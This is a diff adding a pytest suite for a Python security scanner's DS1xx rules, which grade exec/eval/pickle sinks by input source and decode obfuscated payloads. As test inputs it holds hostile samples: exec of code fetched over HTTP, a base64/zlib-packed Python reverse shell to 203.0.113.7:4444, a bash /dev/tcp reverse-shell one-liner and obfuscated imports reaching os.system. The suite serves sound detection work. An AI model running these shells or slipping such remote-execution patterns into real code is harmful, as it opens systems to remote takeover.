@@ -1,0 +1,135 @@
+"""The DS1xx pack: severity follows provenance, payloads are decoded and scanned, bounds become notifications."""
+
+from __future__ import annotations
+
+import base64
+import site
+import textwrap
+import zlib
+from pathlib import Path
+
+import pytest
+
+from datasec_scan.config import Config, Limits
+from datasec_scan.engine import scan_file
+from datasec_scan.model import Severity
+from datasec_scan.plugins import RuleSet, discover
+from datasec_scan.testing import parse_annotations
+
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
+DS1XX = ("DS101", "DS102", "DS103", "DS104", "DS105", "DS106", "DS107", "DS108", "DS109")
+
+
+@pytest.fixture(scope="module")
+def pack() -> RuleSet:
+    rules = discover()
+    return rules.select([r.code for r in rules.rules if r.code in DS1XX])
+
+
+def scan(pack: RuleSet, code: str, path: str = "mod.py", config: Config | None = None):
+    return scan_file(path, textwrap.dedent(code).encode(), pack, config or Config())
+
+
+def severities(pack: RuleSet, code: str, rule: str, path: str = "mod.py") -> list[Severity]:
+    return [f.severity for f in scan(pack, code, path).findings if f.rule == rule]
+
+
+@pytest.mark.parametrize("code,expected", [
+    ("import requests\nexec(requests.get('https://example.com').text)\n", [Severity.CRITICAL]),
+    ("import socket, pickle\ns = socket.create_connection(('203.0.113.1', 1))\npickle.loads(s.recv(9))\n",
+     [Severity.CRITICAL]),
+    ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", [Severity.HIGH]),
+    ("import os\neval(os.environ['X'])\n", [Severity.MEDIUM]),
+    ("exec(open('version.py').read())\n", [Severity.LOW]),
+    ("import pickle\npickle.load(open('cache.pkl', 'rb'))\n", [Severity.LOW]),
+    ("exec('1+1')\n", []),
+    ("import ast, sys\nast.literal_eval(sys.argv[1])\n", []),
+    ("def f(src):\n    exec(src)\n", []),
+])
+def test_ds101_severity_follows_provenance(pack: RuleSet, code: str, expected: list[Severity]) -> None:
+    assert severities(pack, code, "DS101") == expected
+
+
+@pytest.mark.parametrize("call", [
+    "__import__('o'+'s').system", "importlib.import_module('os').system", "getattr(__import__('os'), 'sys'+'tem')",
+    "getattr(builtins, 'ex'+'ec')", "globals()['ev'+'al']", "vars(builtins)['exec']", "P",
+])
+def test_dynamic_names_reach_the_sinks(pack: RuleSet, call: str) -> None:
+    code = (f"import builtins, importlib, requests\nfrom subprocess import Popen as P\n"
+            f"{call}(requests.get('https://example.com/x').text{', shell=True' if call == 'P' else ''})\n")
+    found = scan(pack, code).findings
+    assert found, call
+
+
+def test_payload_findings_point_at_the_literal(pack: RuleSet) -> None:
+    inner = ("import os, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
+             "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n")
+    blob = base64.b64encode(zlib.compress(inner.encode())).decode()
+    code = f"import base64, zlib\nPAYLOAD = (\n    '{blob}'\n)\nexec(zlib.decompress(base64.b64decode(PAYLOAD)))\n"
+    findings = scan(pack, code).findings
+    ds101 = [f for f in findings if f.rule == "DS101"]
+    ds102 = [f for f in findings if f.rule == "DS102"]
+    assert ds101 and ds101[0].location.line == 5 and ds101[0].severity == Severity.HIGH
+    assert "base64+zlib" in ds101[0].message
+    assert ds102 and ds102[0].location.line == 3, "the nested finding is reported at the literal"
+    assert "inside payload decoded from base64+zlib" in ds102[0].message
+
+
+def test_decode_limit_becomes_a_notification(pack: RuleSet) -> None:
+    blob = base64.b64encode(zlib.compress(b"A" * 3_000_000)).decode()
+    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
+    result = scan(pack, code, config=Config(limits=Limits(max_decoded_bytes=100_000)))
+    assert any(n.kind == "decode-limit" for n in result.notifications)
+    assert [f.severity for f in result.findings if f.rule == "DS101"] == [Severity.HIGH]
+
+
+def test_nested_depth_is_bounded(pack: RuleSet) -> None:
+    code = "import os; os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n"
+    for _ in range(6):
+        code = f"import base64\nexec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))\n"
+    result = scan(pack, code)
+    assert any(n.kind == "nested-depth" for n in result.notifications)
+
+
+def test_decoded_secret_is_redacted_in_messages(pack: RuleSet) -> None:
+    inner = "import os\nos.environ['K'] = 'AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7EXAMPLE'\n"
+    code = f"import base64\nexec(base64.b64decode('{base64.b64encode(inner.encode()).decode()}'))\n"
+    for f in scan(pack, code).findings:
+        assert "AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7EXAMPLE" not in f.message
+
+
+def test_loopback_listener_without_execution_is_quiet(pack: RuleSet) -> None:
+    code = ("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 9000))\ns.listen()\n"
+            "c, _ = s.accept()\nc.sendall(c.recv(10))\n")
+    assert not scan(pack, code).findings
+
+
+def test_ordinary_subprocess_use_is_quiet(pack: RuleSet) -> None:
+    code = ("import subprocess, os\nsubprocess.run(['git', 'status'], check=True)\n"
+            "subprocess.check_output('ls -l', shell=True)\nos.system('make test')\n")
+    assert not scan(pack, code).findings
+
+
+def test_real_pth_files_stay_quiet(pack: RuleSet) -> None:
+    seen = 0
+    for folder in site.getsitepackages():
+        for pth in sorted(Path(folder).glob("*.pth")):
+            seen += 1
+            for f in scan_file(pth.name, pth.read_bytes(), pack, Config()).findings:
+                assert f.severity <= Severity.LOW, (pth.name, f.message)
+    if not seen:
+        pytest.skip("no .pth files in this environment")
+
+
+def test_fixture_counts() -> None:
+    """Every DS1xx rule has true positives, benign look-alikes and a known miss written down."""
+    counts = {code: {"ruleid": 0, "ok": 0, "todoruleid": 0, "todook": 0} for code in DS1XX}
+    for path in FIXTURES.rglob("*"):
+        if path.is_file() and path.suffix in (".py", ".pth"):
+            exp = parse_annotations(path.read_text("utf-8"))
+            for kind in counts["DS101"]:
+                for code, lines in getattr(exp, kind).items():
+                    if code in counts:
+                        counts[code][kind] += len(lines)
+    for code, c in counts.items():
+        assert c["ruleid"] >= 3 and c["ok"] >= 2, (code, c)
